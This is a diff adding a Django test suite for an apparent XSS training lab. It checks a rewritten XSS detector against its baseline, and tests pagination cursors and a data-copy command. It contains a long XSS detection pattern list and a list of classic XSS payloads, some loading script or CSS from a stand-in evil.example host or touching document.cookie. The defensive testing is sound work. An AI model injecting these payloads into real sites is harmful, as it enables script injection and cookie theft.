@@ -0,0 +1,465 @@
+import io
+import random
+import re
+from datetime import UTC, datetime
+
+from django.core.management import call_command
+from django.db import connections
+from django.test import SimpleTestCase, TestCase, TransactionTestCase
+from django.urls import reverse
+
+from labs.xss import detection, pagination
+from labs.xss.detection import (
+    MODE_ADAPTIVE,
+    MODE_COMPILED,
+    MODE_INSTRUMENTED,
+    MODE_LINEAR,
+    detect_xss_patterns,
+    detect_xss_patterns_batch,
+)
+from labs.xss.models import Comment
+
+
+def _baseline_detect(content):
+    """detect_xss_patterns() as it was before labs.xss.detection."""
+    if not content or not isinstance(content, str):
+        return False
+
+    content_lower = content.lower()
+
+    # XSS pattern list
+    xss_patterns = [
+        # Script tags
+        r"<script[\s\S]*?>",
+        r"</script>",
+        r"<script[\s\S]*?/>",
+        # Event handlers
+        r"on\w+\s*=",
+        r"onabort\s*=",
+        r"onblur\s*=",
+        r"onchange\s*=",
+        r"onclick\s*=",
+        r"ondblclick\s*=",
+        r"onerror\s*=",
+        r"onfocus\s*=",
+        r"onkeydown\s*=",
+        r"onkeypress\s*=",
+        r"onkeyup\s*=",
+        r"onload\s*=",
+        r"onmousedown\s*=",
+        r"onmousemove\s*=",
+        r"onmouseout\s*=",
+        r"onmouseover\s*=",
+        r"onmouseup\s*=",
+        r"onreset\s*=",
+        r"onresize\s*=",
+        r"onselect\s*=",
+        r"onsubmit\s*=",
+        r"onunload\s*=",
+        r"oncontextmenu\s*=",
+        r"ondrag\s*=",
+        r"ondrop\s*=",
+        # JavaScript URLs
+        r"javascript\s*:",
+        r"vbscript\s*:",
+        r"data\s*:\s*text/html",
+        r"data\s*:\s*application/javascript",
+        # Dangerous HTML tags
+        r"<iframe[\s\S]*?>",
+        r"<object[\s\S]*?>",
+        r"<embed[\s\S]*?>",
+        r"<applet[\s\S]*?>",
+        r"<meta[\s\S]*?>",
+        r"<link[\s\S]*?>",
+        r"<style[\s\S]*?>",
+        r"<base[\s\S]*?>",
+        # Image with event handlers
+        r"<img[\s\S]*?on\w+[\s\S]*?>",
+        r"<svg[\s\S]*?on\w+[\s\S]*?>",
+        # Form elements with events
+        r"<input[\s\S]*?on\w+[\s\S]*?>",
+        r"<button[\s\S]*?on\w+[\s\S]*?>",
+        r"<textarea[\s\S]*?on\w+[\s\S]*?>",
+        r"<select[\s\S]*?on\w+[\s\S]*?>",
+        # JavaScript functions
+        r"alert\s*\(",
+        r"confirm\s*\(",
+        r"prompt\s*\(",
+        r"eval\s*\(",
+        r"settimeout\s*\(",
+        r"setinterval\s*\(",
+        r"function\s*\(",
+        # DOM manipulation
+        r"document\.",
+        r"window\.",
+        r"location\.",
+        r"\.innerhtml",
+        r"\.outerhtml",
+        r"\.write\s*\(",
+        r"\.writeln\s*\(",
+        # CSS expressions
+        r"expression\s*\(",
+        r"behavior\s*:",
+        r"-moz-binding",
+        r"@import",
+        # Template injection patterns
+        r"\{\{[\s\S]*?\}\}",
+        r"\$\{[\s\S]*?\}",
+        r"<%[\s\S]*?%>",
+        # Encoded patterns
+        r"&#x?\d+;",
+        r"%3c%73%63%72%69%70%74",  # URL encoded <script
+        r"&lt;script",
+        r"&lt;img",
+        r"\\u[0-9a-f]{4}",  # Unicode encoding
+        # Data URIs
+        r"data:[\w/]+;base64,",
+        # XML/XHTML patterns
+        r"<\?xml[\s\S]*?\?>",
+        r"<!doctype[\s\S]*?>",
+        r"<!\[cdata\[",
+        # Common bypass attempts
+        r"scr\w*ipt",  # Like "scr" + something + "ipt"
+        r"java\w*script",  # Like "java" + something + "script"
+        r"vb\w*script",
+        # HTML5 specific
+        r"<audio[\s\S]*?on\w+[\s\S]*?>",
+        r"<video[\s\S]*?on\w+[\s\S]*?>",
+        r"<canvas[\s\S]*?on\w+[\s\S]*?>",
+        r"<details[\s\S]*?on\w+[\s\S]*?>",
+        # Form action manipulation
+        r"formaction\s*=",
+        r'action\s*=\s*["\']javascript:',
+        # CSS injection
+        r"@media[\s\S]*?\{",
+        r"@keyframes[\s\S]*?\{",
+        # WebRTC and other modern APIs
+        r"navigator\.",
+        r"geolocation\.",
+        r"webkitrtc",
+        r"mozrtc",
+    ]
+
+    # Check each pattern
+    for pattern in xss_patterns:
+        if re.search(pattern, content_lower, re.IGNORECASE | re.MULTILINE):
+            return True
+
+    # Additional checks for common XSS vectors
+    dangerous_strings = [
+        "javascript:",
+        "vbscript:",
+        "data:text/html",
+        "onload=",
+        "onerror=",
+        "onclick=",
+        "onmouseover=",
+        "alert(",
+        "confirm(",
+        "prompt(",
+        "eval(",
+        "document.cookie",
+        "document.write",
+        "window.location",
+        "innerHTML",
+        "outerHTML",
+        "insertAdjacentHTML",
+        "setTimeout",
+        "setInterval",
+        "Function(",
+        "constructor",
+        "prototype",
+        "__proto__",
+        "expression(",
+        "behavior:",
+        "-moz-binding",
+        "import",
+        "url(",
+        "@import",
+        "script:",
+        "about:",
+        "chrome:",
+        "resource:",
+        "moz-icon:",
+        "ms-its:",
+        "mk:",
+        "wyciwyg:",
+        "jar:",
+        "view-source:",
+        "gopher:",
+        "finger:",
+        "feed:",
+        "pcast:",
+        "webcal:",
+        "wyciwyg:",
+    ]
+
+    for dangerous in dangerous_strings:
+        if dangerous in content_lower:
+            return True
+
+    return False
+
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<script/>",
+    "<img src=x onerror=alert(1)>",
+    "<IMG SRC=\"javascript:alert('XSS');\">",
+    "<svg/onload=alert(1)>",
+    "<body onload=alert(1)>",
+    '<iframe src="data:text/html,<script>alert(1)</script>">',
+    '<a href="JaVaScRiPt:alert(1)">x</a>',
+    '<a href="vbscript:msgbox(1)">x</a>',
+    '<div style="width: expression(alert(1))">',
+    "<style>@import 'http://evil.example/x.css';</style>",
+    '<div style="background:url(javascript:alert(1))">',
+    "<input onfocus=alert(1) autofocus>",
+    "<details open ontoggle=alert(1)>",
+    '<form action="javascript:alert(1)"><button>go</button></form>',
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    '<object data="x.swf">',
+    "<embed src=x.swf>",
+    "<link rel=stylesheet href=x.css>",
+    "{{constructor.constructor('alert(1)')()}}",
+    "${alert(1)}",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "\\u003cscript\\u003ealert(1)",
+    "document.cookie",
+    "window.location='http://evil.example'",
+    "eval(atob('YWxlcnQoMSk='))",
+    "setTimeout('alert(1)', 0)",
+    "x.innerHTML = y",
+    "Object.prototype.polluted = 1",
+    "__proto__[admin]=1",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "new RTCPeerConnection()",
+    "on\nclick\n=\nalert(1)",
+    "java\tscript:alert(1)",
+    "<ſcript>alert(1)</ſcript>",
+    "<ıframe src=x>",
+    "\u212aeyboard onload=x",
+    "İmport",
+]
+
+BENIGN = [
+    "Hello, world!",
+    "Great post, thanks for sharing.",
+    "I love the weather today :)",
+    "Price: 5 < 10 and 10 > 5",
+    "email me at someone@example.com",
+    "a == b",
+    "The <b>bold</b> move",
+    "C'est la vie",
+    "日本語のコメント",
+    "line one\nline two\r\nline three",
+    "{{ not a template }}",
+    "on the other hand",
+    "once upon a time",
+    "ı and ſ and \u212a on their own",
+    "lorem ipsum dolor sit amet " * 4000,
+]
+
+NON_STRINGS = ["", None, 0, 42, b"<script>", ["<script>"], {"x": "<script>"}]
+
+# Pieces of payloads, glued together at random into near misses and hits.
+FRAGMENTS = (
+    "<",
+    ">",
+    "/",
+    "=",
+    ":",
+    "(",
+    ")",
+    " ",
+    "\t",
+    "\n",
+    "'",
+    '"',
+    "{{",
+    "}}",
+    "script",
+    "scr",
+    "ipt",
+    "SCRIPT",
+    "on",
+    "load",
+    "error",
+    "click",
+    "img",
+    "svg",
+    "iframe",
+    "java",
+    "javascript",
+    "vbscript",
+    "data",
+    "text/html",
+    "expression",
+    "url",
+    "@import",
+    "import",
+    "alert",
+    "eval",
+    "document",
+    ".cookie",
+    "&#",
+    "x",
+    "3c",
+    "%3c",
+    "\\u00",
+    "style",
+    "href",
+    "src",
+    "ı",
+    "ſ",
+    "\u212a",
+    "İ",
+    "a",
+    "b",
+    "1",
+)
+
+
+def _fuzz(count, seed=1234):
+    rnd = random.Random(seed)
+    return [
+        "".join(rnd.choice(FRAGMENTS) for _ in range(rnd.randint(1, 12)))
+        for _ in range(count)
+    ]
+
+
+def _corpus():
+    strings = PAYLOADS + BENIGN
+    # Every literal check on its own, and cut one character short.
+    for literal in detection.DANGEROUS_STRINGS:
+        strings += [literal, literal.upper(), literal[:-1]]
+    # Every regex check against something it matches, where re can find one.
+    for pattern in detection.XSS_PATTERNS:
+        source = re.sub(r"\\[sw][*+]?|[\\\[\]()*+?|^$]", "", pattern)
+        strings += [source, f"xx {source} yy"]
+    return strings + _fuzz(3000)
+
+
+CORPUS = _corpus()
+
+
+class DetectorParityTests(SimpleTestCase):
+    """Every mode gives the verdicts of the detector it replaced."""
+
+    def setUp(self):
+        detection.verdict_cache.clear()
+
+    def assertParity(self, contents, verdicts):
+        contents = list(contents)
+        mismatches = [
+            (content, verdict)
+            for content, verdict in zip(contents, verdicts, strict=True)
+            if verdict != _baseline_detect(content)
+        ]
+        self.assertEqual(mismatches, [])
+
+    def check_mode(self, mode):
+        contents = NON_STRINGS + CORPUS
+        self.assertParity(contents, [detect_xss_patterns(c, mode) for c in contents])
+        # Again, now answered from the verdict cache where the mode uses it.
+        self.assertParity(contents, [detect_xss_patterns(c, mode) for c in contents])
+
+    def test_compiled(self):
+        self.check_mode(MODE_COMPILED)
+
+    def test_linear(self):
+        self.check_mode(MODE_LINEAR)
+
+    def test_instrumented(self):
+        self.check_mode(MODE_INSTRUMENTED)
+
+    def test_adaptive(self):
+        self.check_mode(MODE_ADAPTIVE)
+
+    def test_corpus_has_hits_and_misses(self):
+        verdicts = {_baseline_detect(content) for content in CORPUS}
+        self.assertEqual(verdicts, {True, False})
+
+    def test_batch_in_process(self):
+        for mode in (MODE_COMPILED, MODE_LINEAR):
+            with self.subTest(mode=mode):
+                verdicts = detect_xss_patterns_batch(
+                    CORPUS, mode, workers=1, chunksize=97
+                )
+                self.assertParity(CORPUS, list(verdicts))
+
+    def test_batch_in_workers(self):
+        verdicts = detect_xss_patterns_batch(
+            iter(CORPUS), MODE_COMPILED, workers=2, chunksize=256
+        )
+        self.assertParity(CORPUS, list(verdicts))
+
+
+class CursorTests(TestCase):
+    databases = frozenset({"default", "labs"})
+
+    OUT_OF_RANGE = (
+        "99999999999999999999999-1",
+        "-99999999999999999999999-1",
+        "1700000000000000-99999999999999999999999",
+        "1700000000000000-0",
+    )
+
+    def test_decode_cursor(self):
+        self.assertEqual(
+            pagination.decode_cursor("1700000000000000-5"),
+            (datetime(2023, 11, 14, 22, 13, 20, tzinfo=UTC), 5),
+        )
+        for cursor in ("", "5", "x-1", "1-x", *self.OUT_OF_RANGE):
+            with self.subTest(cursor=cursor), self.assertRaises(ValueError):
+                pagination.decode_cursor(cursor)
+
+    def test_older_rejects_out_of_range_cursor(self):
+        for cursor in self.OUT_OF_RANGE:
+            with self.subTest(cursor=cursor):
+                response = self.client.get(
+                    reverse("xss:stored_basic_older"), {"before": cursor}
+                )
+                self.assertEqual(response.status_code, 400)
+
+    def test_since_rejects_out_of_range_cursor(self):
+        for cursor in self.OUT_OF_RANGE:
+            with self.subTest(cursor=cursor):
+                response = self.client.get(
+                    reverse("xss:stored_basic_since"), {"since": cursor}
+                )
+                self.assertEqual(response.status_code, 400)
+
+
+class CopyLabDataTests(TransactionTestCase):
+    databases = frozenset({"default", "labs"})
+
+    def setUp(self):
+        # The table comments had in the default database before lab data
+        # moved to "labs", with rows of its own.
+        with connections["default"].schema_editor() as editor:
+            editor.create_model(Comment)
+        self.addCleanup(self.drop_old_table)
+        Comment.objects.using("default").bulk_create(
+            Comment(name=f"user{n}", comment=f"comment {n}") for n in range(25)
+        )
+
+    def drop_old_table(self):
+        with connections["default"].schema_editor() as editor:
+            editor.delete_model(Comment)
+
+    def test_copies_rows_once(self):
+        old = list(Comment.objects.using("default").order_by("pk").values())
+        Comment.objects.create(pk=old[0]["id"], name="kept", comment="kept")
+
+        call_command("copy_lab_data", batch_size=10, stdout=io.StringIO())
+        call_command("copy_lab_data", batch_size=10, stdout=io.StringIO())
+
+        copied = list(Comment.objects.order_by("pk").values())
+        self.assertEqual(len(copied), len(old))
+        self.assertEqual(copied[0]["name"], "kept")
+        self.assertEqual(copied[1:], old[1:])